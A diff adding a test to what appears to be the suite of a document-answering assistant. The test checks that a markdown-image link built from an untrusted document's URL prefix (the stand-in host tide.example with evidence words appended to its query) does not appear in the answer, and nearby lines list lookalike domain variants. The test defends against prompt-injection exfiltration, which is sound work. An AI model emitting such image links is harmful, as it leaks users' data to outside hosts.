@@ -137,6 +137,14 @@ def test_a_greeting_is_not_searched_for(run: Any, actor: Any, graph: str, questi
     assert answer.text.startswith("I answer questions from these indexes")
 
 
+def test_no_picture_takes_words_of_the_evidence_along(empty_library: Any, tmp_path: Any, actor: Any) -> None:
+    """The document of a stranger has the beginning of an address, and a model that obeys it puts other words behind."""
+    model = actor(writer="The boats leave from ![](<https://tide.example/c?q=)(berth-seven)>) at noon [1].")
+    document = "The boats leave from berth-seven at noon. Tides: https://tide.example/c?q= for boats."
+    answer = answer_of(empty_library, tmp_path, model, document)
+    assert "tide.example/c?q=)" not in answer.model_dump_json(exclude={"citations", "related", "steps"})
+
+
 GATE = "A keeper rests for 11 hours after a night at the gate, says gates.org."
 NAMED = ["fakesoft.com/login", "fakesoft.com", "www.fakesoft.com", "ann@fakesoft.com", "//fakesoft.com/x",
          "gates.org?d=11", "fakesoft\u3002com", "gates.org.fakesoft.com"]  # fmt: skip
